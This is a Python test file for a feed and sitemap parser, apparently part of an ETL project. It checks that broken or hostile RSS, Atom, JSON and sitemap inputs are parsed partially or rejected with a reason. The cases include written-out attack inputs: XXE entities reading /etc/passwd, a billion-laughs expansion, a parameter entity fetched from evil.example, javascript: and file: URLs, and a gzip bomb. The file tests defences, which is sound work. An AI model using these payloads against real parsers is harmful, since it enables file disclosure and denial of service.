"""Broken and hostile lists: what can be read is read and the fault is told; the rest is refused with its reason."""

from __future__ import annotations

import gzip
import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from etl.errors import Reject
from etl.feeds import Listing, read_listing
from etl.feeds.limits import FEED_ITEMS, SITEMAP_ITEMS
from tests.feeds.made import HOME, NOW, atom, atom_entry, index, item, loc, rss, sitemap

XXE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE rss [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10)) + "]>"
DTD = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://dtd.example/rss-0.91.dtd">'
GOOD = rss(item(1), item(2)).partition("?>")[2]
JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Post",
    "items": [{"id": "1", "url": "https://post.example/a/1"}],
}


def feed_of(**changes):
    return json.dumps(JSON | changes)


# name, bytes or text, what is expected: a reason, or how many items are read, and whether a fault is told
CASES = [
    ("nothing", b"", "empty"),
    ("white space", b" \r\n\t", "empty"),
    ("a byte order mark alone", b"\xef\xbb\xbf", "empty"),
    ("NULs", b"\0" * 100, "no-list"),
    ("noise", bytes(range(256)) * 4, "no-list"),
    ("a picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "no-list"),
    ("a web page", "<!doctype html><html><body>Sign in</body></html>", "html"),
    ("a web page without a head", "<html><h1>404</h1>", "html"),
    ("words", "Service temporarily unavailable", "no-list"),
    ("other XML", "<?xml version='1.0'?><note><to>Ada</to></note>", "no-list"),
    ("SOAP", "<soap:Envelope xmlns:soap='x'><soap:Body/></soap:Envelope>", "no-list"),
    ("an external entity", XXE + rss("<item><title>&x;</title><link>https://post.example/1</link></item>"), "entities"),
    ("an external entity behind a comment", f"<!-- <rss -->{XXE}{GOOD}", "entities"),
    ("an external entity in lower case", XXE.lower().replace("doctype", "DocType") + GOOD, "entities"),
    ("a billion laughs", LAUGHS + rss(item(1, more="<description>&l9;</description>")), "entities"),
    ("a parameter entity", '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + GOOD, "entities"),
    ("entities in a sitemap", XXE.replace("rss", "urlset") + sitemap(loc(1)), "entities"),
    ("entities in UTF-16", (XXE + GOOD).encode("utf-16"), "entities"),
    ("a document type inside", f"<rss version='2.0'><channel>{XXE}{item(1)}</channel></rss>", "entities"),
    ("the document type of RSS 0.91", DTD + GOOD, (2, False)),
    ("a document type in a text", rss(item(1, more=f"<description><![CDATA[{XXE}]]></description>")), (1, False)),
    ("entities of HTML", rss(item(1, more="<description>caf&eacute; &nbsp; &copy;</description>")), (1, True)),
    ("an unknown entity", rss(item(1, more="<description>&zzz; news</description>")), (1, True)),
    ("a bare ampersand", rss(item(1, more="<description>fish & chips</description>"), item(2)), (2, True)),
    ("cut off in an item", rss(item(1), item(2))[:-60], (1, True)),
    ("cut off in a tag", rss(item(1), item(2), item(3)).partition("Story 3")[0] + "<li", (2, True)),
    ("unclosed items", "<rss version='2.0'><channel>" + item(1).replace("</item>", "") + item(2), (2, True)),
    ("tags that cross", rss("<item><title>A<link>https://post.example/1</title></link></item>", item(2)), (1, True)),
    ("junk in front", "Warning: mysql_connect() failed on line 3\n" + rss(item(1)), (1, False)),
    ("blank lines in front", "\n\n\n" + rss(item(1)), (1, False)),
    ("junk behind", rss(item(1)) + "<script>track()</script>", (1, True)),
    ("two feeds in one", rss(item(1)) + rss(item(2)), (2, True)),
    ("control characters", rss(item(1, more="<description>a\x0bb\x00c\x1f</description>")), (1, False)),
    ("half a CDATA", rss(item(1)).replace("</channel></rss>", "<item><link>https://post.example/2</link><description><![CDATA[open"), (2, True)),
    ("a lie about the charset", rss(item(1, more="<author>Zoë</author>")).replace("utf-8", "ascii"), (1, False)),
    ("latin-1 that says UTF-8", rss(item(1, more="<author>Zoë</author>")).encode("latin-1"), (1, True)),
    ("windows-1251, declared", rss(item(1)).replace("utf-8", "windows-1251").replace("Story", "Новость").encode("cp1251"), (1, False)),
    ("a charset that nobody knows", rss(item(1)).replace("utf-8", "klingon"), (1, False)),
    ("UTF-16 with a mark", rss(item(1)).replace("utf-8", "utf-16").encode("utf-16"), (1, False)),
    ("no items", rss(), (0, False)),
    ("an item with nothing in it", rss("<item></item>", item(1)), (1, True)),
    ("an item without an address", rss("<item><title>Only a title</title></item>"), (0, True)),
    ("a script for an address", rss(item(1, url="javascript:alert(1)")), (0, True)),
    ("a file for an address", rss(item(1, url="file:///etc/passwd")), (0, True)),
    ("data for an address", rss(item(1, url="data:text/html,x")), (0, True)),
    ("a broken address", rss(item(1, url="http://[::1/x")), (0, True)),
    ("an address that never ends", rss(item(1, url="https://post.example/" + "a" * 9000)), (0, True)),
    ("a headline that never ends", rss(item(1).replace("Story 1", "x" * 500_000)), (1, False)),
    ("a date that is none", rss(item(1, more="<pubDate>yesterday, 25 o'clock</pubDate>")), (1, False)),
    ("a date of the year 99999", rss(item(1, more="<pubDate>Tue, 03 Mar 99999 10:00:00 GMT</pubDate>")), (1, False)),
    ("a thousand authors", rss(item(1, more="<dc:creator>A B</dc:creator>" * 1000)), (1, False)),
    ("ten thousand elements inside one another", rss("<a>" * 10_000), "too-deep"),
    ("depth in an Atom feed", atom("<entry>" * 5_000), "too-deep"),
    ("a hundred thousand open brackets", rss("<" * 100_000), (0, True)),
    ("a hundred thousand ampersands", rss(item(1, more=f"<description>{'&' * 100_000}</description>")), (1, True)),
    ("too many items", rss("<item><link>https://post.example/1</link></item>" * (FEED_ITEMS + 3)), (FEED_ITEMS, True)),
    ("too many bytes", b"<rss><channel>" + b"x" * (9 << 20), "too-large"),
    ("Atom without an id", atom('<entry><title>T</title><link href="https://post.example/1"/></entry>'), (1, False)),
    ("Atom without a name space", atom(atom_entry(1)).replace(' xmlns="http://www.w3.org/2005/Atom"', ""), (1, False)),
    ("Atom with a prefix nobody declared", f"<a:feed>{atom_entry(1)}</a:feed>", (1, True)),
    ("JSON that breaks off", feed_of()[:-9], "json"),
    ("JSON that is no feed", '{"status": "error"}', "no-list"),
    ("a list in JSON", "[1, 2, 3]", "no-list"),
    ("JSON ten thousand deep", '{"items":' + "[" * 100_000, "json"),
    ("items that are none", feed_of(items=[None, 3, "x", [], JSON["items"][0]]), (1, True)),
    ("fields of other kinds", feed_of(items=[{"id": 7, "url": "https://post.example/7", "title": 5, "tags": "x", "authors": {}}]), (1, False)),
    ("no version", json.dumps({"items": JSON["items"]}), (1, True)),
    ("lone surrogates", feed_of(items=[{"url": "https://post.example/1", "title": "\ud800x"}]), (1, False)),
    ("not a number", '{"version": "https://jsonfeed.org/version/1", "items": [{"url": "https://post.example/1", "id": NaN}]}', (1, False)),
    ("a sitemap cut off", sitemap(loc(1), loc(2), loc(3))[:-40], (2, True)),
    ("a sitemap with an entry that is empty", sitemap(loc(1), "<url></url>"), (1, True)),
    ("a sitemap with relative addresses", sitemap("<url><loc>/a/1</loc></url>"), (1, False)),
    ("a sitemap that repeats itself", sitemap(*[loc(1)] * 100), (1, False)),
    ("a sitemap with a bare ampersand", sitemap("<url><loc>https://post.example/?a=1&b=2</loc></url>", loc(2)), (2, True)),
    ("a sitemap without a name space", f"<urlset>{loc(1)}</urlset>", (1, False)),
    ("a sitemap with prefixes nobody declared", "<urlset><url><loc>https://post.example/1</loc><news:news><news:title>T</news:title></news:news></url></urlset>", (1, False)),
    ("too many addresses", sitemap(*map(loc, range(SITEMAP_ITEMS + 2))), (SITEMAP_ITEMS, True)),
    ("an index without addresses", index(("", "2026-03-01")), (0, True)),
    ("gzip", gzip.compress(sitemap(loc(1)).encode()), (1, False)),
    ("half a gzip", gzip.compress(sitemap(*map(loc, range(5000))).encode())[:-3000], None),
    ("gzip of nothing", gzip.compress(b""), "gzip"),
    ("gzip that is none", b"\x1f\x8b" + b"x" * 50, "gzip"),
    ("a gzip bomb", gzip.compress(b"<urlset>" + b" " * (60 << 20)), "too-large"),
    ("a list of addresses with junk", "https://post.example/1\n# note\nnot one\nftp://x/\n", (1, True)),
]  # fmt: skip


def read(data: bytes) -> Listing | Reject:
    try:
        return read_listing(data, HOME, NOW)
    except Reject as err:
        return err


@pytest.mark.parametrize(("body", "expected"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_a_bad_list_gives_its_items_or_a_reason(body, expected):
    data = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    found = read(data)
    if isinstance(found, Reject):
        assert (found.stage, found.reason) == ("read", expected)
        assert len(found.detail.split()) > 2
        return
    assert all(one.url is None or one.url.startswith(("http://", "https://")) for one in found.items)
    if expected is not None:
        assert (len(found.items), bool(found.faults)) == expected
    assert "root:" not in repr(found)


def test_no_list_takes_long():
    began = time.process_time()
    for tag in ("<item>", "<![CDATA[", "<!--", "&#x", "<a b='", "<item><link>x</link>", "</item>"):
        read(rss(tag * 20_000).encode())
    assert time.process_time() - began < 60  # hundreds of seconds where anything is quadratic


MARKUP = st.lists(
    st.sampled_from(
        ["<item>", "</item>", "<link>", "</link>", "<title>", "https://post.example/1", "<![CDATA[", "]]>", "&amp;", "&",
         "<!--", "-->", "<entry>", "<url>", "<loc>", "</loc>", "</url>", "<x:y>", "'", '"', "<", ">", "\0", "ö", "<guid/>"]
    ),
    max_size=60,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["<rss><channel>", "<feed>", "<urlset>", "<sitemapindex>", "{", "https://", ""]),
    MARKUP | st.text(max_size=200),
)
def test_whatever_comes_is_a_listing_or_a_rejection(head, rest):
    found = read((head + rest).encode("utf-8", "replace"))
    if isinstance(found, Reject):
        assert found.stage == "read"
    else:
        assert all(one.url or one.content_html for one in found.items)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_whatever_bytes_come(data):
    found = read(data)
    assert found.stage == "read" if isinstance(found, Reject) else found.form
